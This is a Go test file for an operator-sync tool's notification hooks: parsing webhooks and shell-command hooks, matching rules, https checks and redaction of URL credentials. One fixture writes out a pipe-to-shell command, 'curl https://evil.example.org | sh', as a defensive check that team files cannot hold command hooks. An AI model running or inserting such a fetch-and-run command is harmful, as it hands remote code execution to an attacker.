package config

import (
	"errors"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

func readPersonal(t *testing.T, operatorSync string) (*File, error) {
	t.Helper()
	path := filepath.Join(t.TempDir(), "abra.yml")
	writeFile(t, path, "sync: true\noperator_sync:\n"+operatorSync)
	return ReadFile(path)
}

func TestNotifyHooksRead(t *testing.T) {
	f, err := readPersonal(t, `  notify:
    - webhook: https://hooks.example.org/opsync
    - command: notify-send "$OPSYNC_APP"
      timeout: 90s
      when:
        commands: [d, app upgrade, secret]
        apps: ["*.example.org", wiki.coop]
        failed: yes
`)
	if err != nil {
		t.Fatal(err)
	}
	s := DefaultSettings()
	for _, a := range f.apply {
		a(&s)
	}
	if len(s.Notify) != 2 {
		t.Fatalf("read %d hooks, want 2", len(s.Notify))
	}
	w, c := s.Notify[0], s.Notify[1]
	if w.Webhook != "https://hooks.example.org/opsync" || w.Command != "" || w.Timeout != DefaultHookTimeout || w.Team {
		t.Errorf("webhook hook read as %+v", w)
	}
	if w.Path != f.Path || w.Line != 4 {
		t.Errorf("webhook hook is at %s line %d, want %s line 4", w.Path, w.Line, f.Path)
	}
	if got, want := w.Name(filepath.Dir(f.Path)), "webhook https://hooks.example.org/… (~/abra.yml line 4)"; got != want {
		t.Errorf("Name = %q, want %q", got, want)
	}
	if c.Command != `notify-send "$OPSYNC_APP"` || c.Timeout != 90*time.Second {
		t.Errorf("command hook read as %+v", c)
	}
	if !slices.Equal(c.When.Commands, []string{"app deploy", "app upgrade", "app secret"}) || !c.When.Failed ||
		!slices.Equal(c.When.Apps, []string{"*.example.org", "wiki.coop"}) {
		t.Errorf("when read as %+v", c.When)
	}
}

func TestHookWhenMatches(t *testing.T) {
	w := HookWhen{Commands: []string{"app deploy", "app secret"}, Apps: []string{"*.example.org"}}
	cases := []struct {
		command, app string
		failed, want bool
	}{
		{"app deploy", "foo.example.org", false, true},
		{"app deploy", "FOO.Example.org", true, true},
		{"app secret insert", "foo.example.org", false, true}, // a group selects its commands
		{"app deployx", "foo.example.org", false, false},
		{"app upgrade", "foo.example.org", false, false},
		{"app deploy", "foo.example.com", false, false},
	}
	for _, c := range cases {
		if got := w.Matches(c.command, c.app, c.failed); got != c.want {
			t.Errorf("Matches(%q, %q, %v) = %v, want %v", c.command, c.app, c.failed, got, c.want)
		}
	}
	failed := HookWhen{Failed: true}
	if failed.Matches("app deploy", "a", false) || !failed.Matches("app deploy", "a", true) {
		t.Error("failed: true must select failed entries only")
	}
	if !(HookWhen{}).Matches("app deploy", "a", false) {
		t.Error("no when selects every entry")
	}
}

func TestNotifyErrors(t *testing.T) {
	cases := []struct {
		name, yml string
		line      int
		want      string
	}{
		{"not a list", "  notify: https://x.example.org\n", 3, "notify must be a list of hooks"},
		{"neither", "  notify:\n    - timeout: 3s\n", 4, "needs webhook: (an https URL) or command:"},
		{"both", "  notify:\n    - webhook: https://x.example.org\n      command: true\n", 4, "either a webhook or a command, not both"},
		{"unknown key", "  notify:\n    - webhook: https://x.example.org\n      timout: 3s\n", 5, `unknown key "timout" in a notify hook (did you mean "timeout"?)`},
		{"plain http elsewhere", "  notify:\n    - webhook: http://alice:pw@hooks.example.org/t\n", 4,
			"webhook http://<redacted>@hooks.example.org/… uses plain http: use https"},
		{"not a URL", "  notify:\n    - webhook: hooks.example.org\n", 4, "is not a URL like https://"},
		{"other scheme", "  notify:\n    - webhook: ftp://hooks.example.org/x\n", 4, "is not an https URL"},
		{"timeout too short", "  notify:\n    - command: true\n      timeout: 500ms\n", 5, "timeout must be from 1s to 2m"},
		{"timeout too long", "  notify:\n    - command: true\n      timeout: 1h\n", 5, "timeout must be from 1s to 2m"},
		{"empty command", "  notify:\n    - command: ' '\n", 4, "command must be a shell command"},
		{"bad command in when", "  notify:\n    - command: 'true'\n      when:\n        commands: [deploy, dploy]\n", 6,
			`"dploy" is not an abra command`},
		{"unknown key in when", "  notify:\n    - command: 'true'\n      when:\n        app: [x]\n", 6, `unknown key "app" under when (did you mean "apps"?)`},
		{"bad pattern", "  notify:\n    - command: 'true'\n      when:\n        apps: ['[x']\n", 6, "is not an app domain or a pattern"},
		{"twice", "  notify:\n    - command: 'true'\n      command: 'false'\n", 5, "command is given twice"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			_, err := readPersonal(t, c.yml)
			var ce *Error
			if !errors.As(err, &ce) {
				t.Fatalf("error %v, want a *config.Error", err)
			}
			if ce.Line != c.line || !strings.Contains(ce.Msg, c.want) {
				t.Errorf("error at line %d: %s\nwant line %d, containing %q", ce.Line, ce.Msg, c.line, c.want)
			}
			if strings.Contains(err.Error(), ":pw@") {
				t.Errorf("the error shows the URL's password: %v", err)
			}
		})
	}
}

func TestLocalHTTPWebhookAccepted(t *testing.T) {
	for _, u := range []string{"http://127.0.0.1:8080/x", "http://localhost/x", "http://[::1]:9/x", "HTTPS://hooks.example.org"} {
		if msg := checkWebhook(u, false); msg != "" {
			t.Errorf("%s refused: %s", u, msg)
		}
	}
	for _, u := range []string{"http://10.0.0.1/x", "http://localhost.example.org/x", "http://127.0.0.1.example.org/"} {
		if msg := checkWebhook(u, false); msg == "" {
			t.Errorf("%s accepted, want it refused (plain http to another machine)", u)
		}
	}
}

func TestTeamFileHooks(t *testing.T) {
	team, err := teamFile(t, "notify:\n  - webhook: https://chat.example.org/hooks/T0KEN\n")
	if err != nil {
		t.Fatal(err)
	}
	own := "sync: true\noperator_sync:\n  notify:\n    - command: 'true'\n"
	cases := []struct {
		name, personal string
		want           []string // Name() of each hook, in order
	}{
		{"the team's alone", "sync: true\n", []string{"webhook https://chat.example.org/… (" + team.Path + " line 2)"}},
		{"the operator's add to the team's", own, []string{"webhook https://chat.example.org/…", "command hook"}},
		{"notify_team: false turns the team's off", own + "  notify_team: false\n", []string{"command hook"}},
		{"an empty list adds nothing", "sync: true\noperator_sync:\n  notify: []\n", []string{"webhook https://chat.example.org/…"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			s := loadWith(t, c.personal).WithTeam(team)
			if len(s.Notify) != len(c.want) {
				t.Fatalf("%d hooks, want %d: %+v", len(s.Notify), len(c.want), s.Notify)
			}
			for i, h := range s.Notify {
				if !strings.HasPrefix(h.Name(""), c.want[i]) {
					t.Errorf("hook %d is %q, want %q…", i, h.Name(""), c.want[i])
				}
			}
		})
	}
	// What status and doctor print: where it comes from, no token.
	for _, src := range loadWith(t, own).Sources(team) {
		if src.Key != "notify" {
			continue
		}
		if strings.Contains(src.Value, "T0KEN") || !strings.Contains(src.Value, "command hook") {
			t.Errorf("notify shown as %q", src.Value)
		}
		if !strings.Contains(src.From, team.Path+" + ") {
			t.Errorf("notify comes from %q, want the team file + abra.yml", src.From)
		}
	}
}

func TestTeamFileRefusesCommandHooks(t *testing.T) {
	_, err := teamFile(t, "notify:\n  - command: curl https://evil.example.org | sh\n")
	var ce *Error
	if !errors.As(err, &ce) || ce.Line != 2 || !strings.Contains(ce.Msg, "cannot hold a command hook") {
		t.Fatalf("error %v, want the command hook refused at line 2", err)
	}
	_, err = teamFile(t, "notify:\n  - webhook: http://127.0.0.1:8080/admin\n")
	if !errors.As(err, &ce) || ce.Line != 2 || !strings.Contains(ce.Msg, "the team file's webhooks must be https") {
		t.Fatalf("error %v, want plain http refused in the team file, even to this machine", err)
	}
	_, err = teamFile(t, "notify_team: false\n")
	if !errors.As(err, &ce) || !strings.Contains(ce.Msg, "personal setting") {
		t.Fatalf("error %v, want notify_team refused as personal", err)
	}
}

func TestShowWebhook(t *testing.T) {
	cases := map[string]string{
		"https://hooks.example.org":                 "https://hooks.example.org",
		"https://hooks.example.org/":                "https://hooks.example.org",
		"https://u:p@hooks.example.org/x?token=abc": "https://<redacted>@hooks.example.org/…",
		"https://TOKEN@hooks.example.org":           "https://<redacted>@hooks.example.org",
		"https://hooks.example.org/#frag":           "https://hooks.example.org/…",
		"https://hooks.example.org\x1b[31m/":        "<a URL opsync cannot read>",
	}
	for in, want := range cases {
		if got := ShowWebhook(in); got != want {
			t.Errorf("ShowWebhook(%q) = %q, want %q", in, got, want)
		}
	}
}
